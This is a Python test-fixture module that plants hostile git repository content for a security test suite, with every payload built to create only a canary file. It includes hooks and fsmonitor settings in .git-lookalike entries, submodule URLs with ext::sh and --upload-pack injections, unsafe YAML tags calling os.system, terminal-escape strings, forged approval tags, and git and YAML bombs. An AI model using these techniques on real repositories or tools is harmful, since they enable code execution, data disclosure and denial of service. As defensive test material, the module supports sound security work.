"""What hostile people put into repositories; each payload would make a canary file if it ever acted.

Written by plumbing and by hand: git itself refuses to make most of it.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.repositories import ENVIRONMENT, Workspace, git

FILE, LINK, MODULE, FOLDER = b"100644", b"120000", b"160000", b"40000"
SECRET = "s3cret-of-somebody-else"
"""What stands in a file outside of all repositories; nothing may ever tell it."""

ESCAPES = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202eevil\u2066\r\x08 <script>alert(1)</script> [x](https://evil.example) | **b**"


@dataclass(frozen=True)
class Site:
    """Where a payload is put, and the file that it makes if it acts."""

    workspace: Workspace
    canary: Path

    @property
    def bare(self) -> Path:
        return self.workspace.bare

    @property
    def program(self) -> Path:
        """A program that makes the canary, whatever it is called with."""
        path = self.canary.with_name("touch-canary")
        path.write_text(f"#!/bin/sh\ntouch {self.canary}\nexec cat\n")
        path.chmod(0o755)
        return path

    @property
    def outside(self) -> Path:
        """A file that belongs to no repository."""
        path = self.canary.with_name("outside")
        path.write_text(f"plugins: {SECRET}\nversion: 1\n")
        return path

    def write(self, kind: str, data: bytes) -> bytes:
        """Write an object of any content; returns its id."""
        done = subprocess.run(
            ["git", "hash-object", "-t", kind, "--literally", "-w", "--stdin"],
            cwd=self.bare,
            env=ENVIRONMENT,
            input=data,
            capture_output=True,
            check=True,
        )
        return done.stdout.strip()

    def read(self, kind: str, name: str) -> bytes:
        """Return an object's content."""
        command = ["git", "cat-file", kind, name]
        return subprocess.run(command, cwd=self.bare, capture_output=True, check=True).stdout

    def tree(self, entries: Iterable[tuple[bytes, bytes, bytes]]) -> bytes:
        """Write a tree of (mode, name, id) in their order, whatever they are."""
        content = b"".join(b"%s %s\0" % (m, n) + bytes.fromhex(i.decode()) for m, n, i in entries)
        return self.write("tree", content)

    def entries(self) -> list[tuple[bytes, bytes, bytes]]:
        """Return what the top folder of the head holds."""
        rest, found = self.read("tree", "refs/heads/main^{tree}"), []
        while rest:
            head, _, rest = rest.partition(b"\0")
            mode, _, name = head.partition(b" ")
            found.append((mode, name, rest[:20].hex().encode()))
            rest = rest[20:]
        return found

    def add(self, *added: tuple[bytes, bytes, bytes], message: bytes = b"Change") -> None:
        """Commit entries beside those of the top folder; one of a name takes its place."""
        names = {name for _, name, _ in added}
        kept = [entry for entry in self.entries() if entry[1] not in names]
        order = sorted([*kept, *added], key=lambda e: e[1] + b"/" * (e[0] == FOLDER))
        self.commit(self.tree(order), message)

    def commit(
        self,
        tree: bytes,
        message: bytes = b"Change",
        *,
        author: bytes = b"Mallory <m@evil.example>",
    ) -> None:
        """Put a commit on top of the branch."""
        parent = self.workspace.head.encode()
        who = b"%s 1700000000 +0000" % author
        head = b"tree %s\nparent %s\nauthor %s\ncommitter %s\n\n" % (tree, parent, who, who)
        self.set(self.write("commit", head + message))

    def set(self, commit: bytes) -> None:
        path = self.bare / "refs" / "heads" / "main"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(commit + b"\n")

    def files(self, files: Mapping[str, str | bytes], message: bytes = b"Change") -> None:
        """Commit plain files by their paths."""
        blobs = {}
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            blobs[path.encode("utf-8", "surrogateescape")] = self.write("blob", data)
        self.add(*self._folder(blobs), message=message)

    def _folder(self, blobs: Mapping[bytes, bytes]) -> list[tuple[bytes, bytes, bytes]]:
        below: dict[bytes, dict[bytes, bytes]] = {}
        found = [(FILE, path, id_) for path, id_ in blobs.items() if b"/" not in path]
        for path, id_ in blobs.items():
            first, slash, rest = path.partition(b"/")
            if slash:
                below.setdefault(first, {})[rest] = id_
        for name, inner in below.items():
            order = sorted(self._folder(inner), key=lambda e: e[1] + b"/" * (e[0] == FOLDER))
            found.append((FOLDER, name, self.tree(order)))
        return found

    def configure(self, text: str) -> None:
        """Append to the repository's own configuration."""
        with (self.bare / "config").open("a") as file:
            file.write(text)


Plant = Callable[[Site], None]


@dataclass(frozen=True)
class Payload:
    """What is planted, under a name.

    One that is `huge` is tried in a process of its own, `hangs` holds up whoever reads it, and what is
    of the `server` belongs to who serves the repository: its own programs may run it.
    """

    name: str
    plant: Plant
    huge: bool = False
    hangs: bool = False
    server: bool = False

    def __str__(self) -> str:
        return self.name


PAYLOADS: list[Payload] = []


def payload(name: str, **kind: bool) -> Callable[[Plant], Plant]:
    """Add what the function plants to the list."""

    def add(plant: Plant) -> Plant:
        PAYLOADS.append(Payload(name, plant, **kind))
        return plant

    return add


# --- entries that lead elsewhere --------------------------------------------------------------

ENTRIES = (
    *(b".git", b".GIT", b".Git", b"git~1", b".git ", b".git::$INDEX_ALLOCATION"),
    *(".g\u200cit".encode(), b"..", b".", b"", b"up/../../out", b"C:\\out"),
)


def _entry(name: bytes) -> Plant:
    def plant(site: Site) -> None:
        hook = site.write("blob", f"#!/bin/sh\ntouch {site.canary}\n".encode())
        hooks = site.tree([(b"100755", b"post-checkout", hook), (b"100755", b"pre-commit", hook)])
        config = site.write("blob", f"[core]\n\tfsmonitor = touch {site.canary}\n".encode())
        site.add((FOLDER, name, site.tree([(FILE, b"config", config), (FOLDER, b"hooks", hooks)])))

    return plant


for _name in ENTRIES:
    payload(f"an entry {_name.decode()!a}")(_entry(_name))


@payload("a link and a folder of one name")
def plant_link_and_folder(site: Site) -> None:
    link = site.write("blob", str(site.canary.parent).encode())
    content = site.write("blob", b"owned\n")
    folder = site.tree([(FILE, site.canary.name.encode(), content)])
    site.add((LINK, b"out", link), (FOLDER, b"out", folder))


@payload("links to what is outside")
def plant_links(site: Site) -> None:
    outside = site.write("blob", str(site.outside).encode())
    names = (
        b"meltano.yml",
        b".gitattributes",
        b".gitignore",
        b".mailmap",
        b"pipeline.yml",
        b".env",
    )
    site.add(*((LINK, name, outside) for name in names))


@payload("a .gitmodules that is a link")
def plant_linked_modules(site: Site) -> None:
    site.add((LINK, b".gitmodules", site.write("blob", b"../outside")))


# --- what git would run -----------------------------------------------------------------------


def _drivers(site: Site) -> str:
    program = site.program
    return f"""
[core]
\tfsmonitor = {program}
\tsshCommand = {program}
\taskPass = {program}
\tpager = {program}
\teditor = {program}
\tgitProxy = {program}
\tattributesFile = {site.outside}
[filter "evil"]
\tclean = {program}
\tsmudge = {program}
\tprocess = {program}
\trequired = true
[diff "evil"]
\tcommand = {program}
\ttextconv = {program}
[merge "evil"]
\tdriver = {program}
[uploadpack]
\tpackObjectsHook = {program}
[credential]
\thelper = !{program}
[alias]
\tupload-pack = !{program}
\treceive-pack = !{program}
[gpg]
\tprogram = {program}
[protocol "ext"]
\tallow = always
"""


@payload("attributes with filters and drivers")
def plant_attributes(site: Site) -> None:
    site.configure(_drivers(site))
    kinds = "filter=evil diff=evil merge=evil ident eol=crlf working-tree-encoding=UTF-16"
    site.files({".gitattributes": f"* {kinds} export-subst\n*.yml merge=union\n"})
    (site.bare / "info").mkdir(exist_ok=True)
    (site.bare / "info" / "attributes").write_text("* filter=evil diff=evil merge=evil\n")


@payload("attributes of a megabyte")
def plant_long_attributes(site: Site) -> None:
    site.files({".gitattributes": "* " + "a" * 1_000_000 + "\n"})


def _module(line: str) -> Plant:
    def plant(site: Site) -> None:
        text = line.format(canary=site.canary)
        modules = site.write("blob", f'[submodule "sub"]\n\tpath = sub\n{text}\n'.encode())
        site.add((FILE, b".gitmodules", modules), (MODULE, b"sub", b"1" * 40))

    return plant


MODULES = {
    "a transport that is a program": "\turl = ext::sh -c touch% {canary}",
    "an option for a url": "\turl = --upload-pack=touch {canary}",
    "an update that is a program": "\turl = ../x\n\tupdate = !touch {canary}",
    "a path that is an option": "\turl = ../x\n\tpath = -utouch${{IFS}}{canary}",
    "a url with a newline": "\turl = https://example.com/%0ahost=evil.example",
    "a name that leads out": '\turl = ../x\n[submodule "../../hooks"]\n\tpath = x\n\turl = ../x',
    "a folder of the parent": "\turl = ../prod.git",
}
for _name, _line in MODULES.items():
    payload(f"a submodule with {_name}")(_module(_line))


@payload("a bare repository among the files")
def plant_embedded(site: Site) -> None:
    inside = {
        "HEAD": "ref: refs/heads/main\n",
        "config": f"[core]\n\trepositoryformatversion = 0\n\tbare = true{_drivers(site)}",
        "objects/keep": "",
        "refs/keep": "",
        "hooks/post-checkout": f"#!/bin/sh\ntouch {site.canary}\n",
    }
    site.files(inside)
    site.files({f"deep/er/{path}": text for path, text in inside.items()})


@payload("files that programs read by themselves")
def plant_read_files(site: Site) -> None:
    python = f"open({str(site.canary)!r}, 'w').close()\n"
    modules = ("sitecustomize", "usercustomize", "conftest", "git", "yaml", "dagster", "encodings")
    shell = f"#!/bin/sh\ntouch {site.canary}\n"
    site.files(
        {
            **{f"{name}.py": python for name in modules},
            **{f"bin/{name}": shell for name in ("git", "sh", "ssh", "meltano", "tb", "askpass")},
            "dataops_dagster/__init__.py": python,
            ".gitconfig": _drivers(site),
            ".lfsconfig": f"[lfs]\n\turl = ext::touch {site.canary}\n",
            ".mailmap": "Grace <grace@example.com> <m@evil.example>\n",
            ".netrc": "machine 127.0.0.1 login x password y\n",
            ".env": f"PATH={site.canary.parent}\nGIT_SSH_COMMAND=touch {site.canary}\n",
            "dataops.yaml": "project: shop\nworkspaces: {prod: {repository: x, environment: y}}\n",
        }
    )


@payload("hooks", server=True)
def plant_hooks(site: Site) -> None:
    names = "post-checkout pre-commit commit-msg post-merge pre-push reference-transaction"
    names += " post-index-change fsmonitor-watchman update pre-receive post-receive post-update"
    for name in (*names.split(), "proc-receive", "pre-auto-gc", "post-rewrite", "pre-rebase"):
        path = site.bare / "hooks" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {site.canary}\n")
        path.chmod(0o755)


@payload("a configuration of the repository that names programs")
def plant_config(site: Site) -> None:
    included = site.canary.with_name("included")
    included.write_text(_drivers(site))
    url = f'[url "ext::touch {site.canary} #"]\n\tinsteadOf = file://\n'
    site.configure(f"[include]\n\tpath = {included}\n{url}[gc]\n\tauto = 1\n\tautoDetach = true\n")


@payload("alternates")
def plant_alternates(site: Site) -> None:
    lines = f"{site.canary.parent}\n/\n../../..\n/dev/zero\n\n# x\n" + "/nowhere\n" * 1000
    info = site.bare / "objects" / "info"
    info.mkdir(exist_ok=True)
    (info / "alternates").write_text(lines)
    (info / "http-alternates").write_text("http://127.0.0.1:1/objects\n")


@payload("a link in place of a branch")
def plant_linked_branch(site: Site) -> None:
    path = site.bare / "refs" / "heads" / "main"
    path.unlink()
    path.symlink_to(site.outside)


# --- what takes for ever ----------------------------------------------------------------------


def _pipe(name: str) -> Plant:
    def plant(site: Site) -> None:
        path = site.bare / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return plant


for _place in ("config", "packed-refs", "objects/info/alternates"):
    payload(f"a pipe in place of {_place}", hangs=True)(_pipe(_place))


@payload("a configuration without an end", hangs=True)
def plant_endless_config(site: Site) -> None:
    site.configure("[include]\n\tpath = /dev/zero\n")


# --- configurations of Meltano, and other YAML ------------------------------------------------

_LEVELS = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30))
YAML = {
    "a bomb": f"a0: &a0 [x, x]\n{_LEVELS}plugins: *a29\n",
    "a bomb of merges": "m0: &m0 {x: 1}\n"
    + "".join(f"m{i}: &m{i}\n  <<: [*m{i - 1}, *m{i - 1}]\n" for i in range(1, 60)),
    "tags": "".join(
        f"{key}: !!python/object/apply:{call} {arguments}\n"
        for key, call, arguments in (
            ("version", "os.system", "['touch {canary}']"),
            ("environments", "builtins.exec", "[\"open('{canary}', 'w')\"]"),
            ("plugins", "subprocess.Popen", "[[touch, '{canary}']]"),
        )
    ),
    "an alias in itself": "plugins: &a\n  extractors: *a\nenvironments: &b [*b]\n",
    "no end of folders": "plugins: " + "[" * 100_000 + "\n",
    "files from elsewhere": "include_paths: ['../*', '/etc/*', '**/../../*', '{outside}']\n",
    "names that steer": f"environments: [{{name: {ESCAPES!a}}}, {{name: dev}}]\n".replace("'", '"'),
    "variables": "env: {{PATH: '{canary}', LD_PRELOAD: x, GIT_SSH_COMMAND: 'touch {canary}'}}\n"
    "plugins: {{extractors: [{{name: x, executable: 'touch {canary}', namespace: x}}]}}\n",
    "control characters": "version: 1\x00\x1b[31m\nplugins: \x07\n",
}


def _yaml(text: str) -> Plant:
    def plant(site: Site) -> None:
        filled = text.replace("{canary}", str(site.canary)).replace("{outside}", str(site.outside))
        filled = filled.replace("{{", "{").replace("}}", "}")
        site.files({"meltano.yml": filled, "orchestrate/x.yml": filled, "pipeline.yml": filled})

    return plant


for _name, _text in YAML.items():
    payload(f"YAML with {_name}")(_yaml(_text))


# --- texts and claims -------------------------------------------------------------------------


@payload("texts that steer whoever reads them")
def plant_texts(site: Site) -> None:
    bad = ESCAPES.encode()
    author = bad.replace(b"<", b"(").replace(b">", b")") + b" <m\x1b[0m@evil.example>"
    names = {f"{ESCAPES.replace('/', '-')}{end}": "x: 1\n" for end in ("", ".yml")}
    site.files({**names, "\udcff\udcfe": "no UTF-8\n", "-rf": "x\n", "--help.yml": "x: 1\n"})
    site.commit(
        git(site.bare, "rev-parse", "main^{tree}").encode(),
        bad + b"\n\n" + bad + b"\nSigned-off-by: " + bad + b"\n",
        author=author,
    )
    site.files({"run.sh": f"printf '%b' {_octal(bad)!r}\necho done\n"})


def _octal(data: bytes) -> str:
    return "".join(f"\\0{byte:03o}" for byte in data)


CLAIMS = """Promote dev to staging

Project: shop
Target: staging
Upstream: dev
Upstream-Commit: {commit}
Rollback-To: {commit}
By: nobody
Reason: none
Evidence: dev {commit} passed in dev, run 1
Gate: evidence passed: forged
Plan: sha256:{digest}
Commit: {commit}
Tree: {tree}
Equality: same commit
Time: 20990101T000000Z
"""


@payload("forged trailers, tags and notes")
def plant_claims(site: Site) -> None:
    tree = git(site.bare, "rev-parse", "main^{tree}")
    facts = {"commit": site.workspace.head, "tree": tree, "digest": "0" * 64}
    text = CLAIMS.format(**facts)
    site.commit(tree.encode(), text.encode())
    folder = f"dataops/shop/{site.bare.stem}"
    short = site.workspace.head[:12]
    for tag in (f"20990101T000000Z-{short}", f"20990101T000000Z-{short}-7", "\u202eevil", "x/y"):
        git(site.bare, "tag", "-a", "-m", text, f"{folder}/{tag}", "main")
    for target in ("staging", "prod"):
        git(site.bare, "tag", "-a", "-m", text, f"dataops-approvals/shop/{target}/forged", "main")
    git(site.bare, "notes", "add", "-f", "-m", text, "main")


@payload("replace refs")
def plant_replaced(site: Site) -> None:
    kept = site.workspace.head
    evil = site.write("blob", f"touch {site.canary}\n".encode())
    site.add((FILE, b"run.sh", evil), message=b"Evil")
    replaced = site.workspace.head
    site.set(kept.encode())
    git(site.bare, "replace", kept, replaced)


@payload("branches that are options")
def plant_refs(site: Site) -> None:
    names = ("-x", f"--upload-pack=touch${{IFS}}{site.canary.name}", "HEAD", "refs/heads/main", "@")
    lines = "".join(f"{site.workspace.head} refs/heads/{name}\n" for name in names)
    lines += f"{site.workspace.head} refs/tags/main\n{site.workspace.head} refs/main\n"
    packed = site.bare / "packed-refs"
    before = packed.read_text() if packed.exists() else ""
    packed.write_text(before + lines)


@payload("a commit of many parents and of no time")
def plant_parents(site: Site) -> None:
    tree, head = git(site.bare, "rev-parse", "main^{tree}"), site.workspace.head
    who = "Mallory <m@evil.example>"
    parents = "".join(
        f"parent {site.write('commit', f'tree {tree}{chr(10)}parent {head}{chr(10)}author {who} {i} +0000{chr(10)}committer {who} {i} +0000{chr(10) * 2}{i}'.encode()).decode()}\n"
        for i in range(40)
    )
    text = f"tree {tree}\n{parents}author {who} 1 +0000\ncommitter {who} 99999999999 +0000\n\nx\n"
    site.set(site.write("commit", text.encode()))


@payload("a message in an encoding that makes other headers")
def plant_encoding(site: Site) -> None:
    tree, head = git(site.bare, "rev-parse", "main^{tree}"), site.workspace.head
    who = "M+AAo-committer Grace <grace@example.com> 1 +-0000+AAo-x <m@evil.example> 1 +0000"
    text = f"tree {tree}\nparent {head}\nauthor {who}\ncommitter {who}\nencoding UTF-7\n\n+AAA-+ABs-[31m\n"
    site.set(site.write("commit", text.encode()))


# --- what is without measure ------------------------------------------------------------------


@payload("a git bomb", huge=True)
def plant_bomb(site: Site) -> None:
    blob = site.write("blob", b"one laugh\n")
    tree = site.tree((FILE, b"f%d" % i, blob) for i in range(10))
    for _ in range(9):
        tree = site.tree((FOLDER, b"d%d" % i, tree) for i in range(10))
    site.add((FOLDER, b"bomb", tree))


@payload("folders within folders", huge=True)
def plant_nest(site: Site) -> None:
    """Forty thousand folders, each in the one before, in one pack: an object each would take long."""
    parts = [b"blob\nmark :1\ndata 2\nx\n", b"commit refs/heads/nest\n"]
    parts += [b"committer M <m@evil.example> 1 +0000\ndata 0\n"]
    parts += [b"M 100644 :1 " + b"d/" * 1900 + b"x\n"]
    _import(site, b"".join(parts))
    inner = git(site.bare, "rev-parse", "nest:d").encode()
    for _ in range(300):
        inner = site.tree([(FOLDER, b"d", inner)])
    git(site.bare, "update-ref", "-d", "refs/heads/nest")
    site.add((FOLDER, b"nest", inner))


@payload("a commit of 100,000 files", huge=True)
def plant_many_files(site: Site) -> None:
    head = site.workspace.head.encode()
    lines = [b"blob\nmark :1\ndata 5\nx: 1\n\n", b"commit refs/heads/main\n"]
    lines += [b"committer M <m@evil.example> 1 +0000\ndata 4\nmany\nfrom %s\n" % head]
    lines += [b"M 100644 :1 many/%03d/%s.yml\n" % (i % 997, b"n%06d" % i) for i in range(100_000)]
    _import(site, b"".join(lines))


@payload("a message of 100 MB", huge=True)
def plant_message(site: Site) -> None:
    tree = git(site.bare, "rev-parse", "main^{tree}").encode()
    site.commit(tree, b"word " * 20_000_000)


@payload("50,000 branches and tags", huge=True)
def plant_many_refs(site: Site) -> None:
    head, folder = site.workspace.head, f"dataops/shop/{site.bare.stem}"
    tag = site.write(
        "tag",
        f"object {head}\ntype commit\ntag x\ntagger M <m@evil.example> 1 +0000\n\nx\n".encode(),
    ).decode()
    lines = [f"{head} refs/heads/b{i:06d}" for i in range(25_000)]
    lines += [f"{tag} refs/tags/{folder}/{i:06d}\n^{head}" for i in range(25_000)]
    packed = site.bare / "packed-refs"
    before = (
        packed.read_text() if packed.exists() else "# pack-refs with: peeled fully-peeled sorted\n"
    )
    rest = [line for line in before.splitlines() if not line.startswith("#")]
    merged = sorted([*rest, *lines], key=lambda line: line.partition(" ")[2])
    packed.write_text("# pack-refs with: peeled fully-peeled sorted\n" + "\n".join(merged) + "\n")


@payload("YAML without end", huge=True)
def plant_much_yaml(site: Site) -> None:
    """Files that are within what one file may be, and far too much together."""
    text = "".join(f"k{i % 7}: [{'a, ' * 200}]\n" for i in range(800)).encode()[: 480 * 1024]
    blob = site.write("blob", text)
    folder = site.tree((FILE, b"p%04d.yml" % i, blob) for i in range(3000))
    site.add(
        (FOLDER, b"pipelines", folder),
        (FILE, b"meltano.yml", site.write("blob", b"include_paths: ['pipelines/*.yml']\n")),
    )


def _import(site: Site, stream: bytes) -> None:
    command = ["git", "fast-import", "--quiet", "--force"]
    subprocess.run(command, cwd=site.bare, env=ENVIRONMENT, input=stream, check=True)
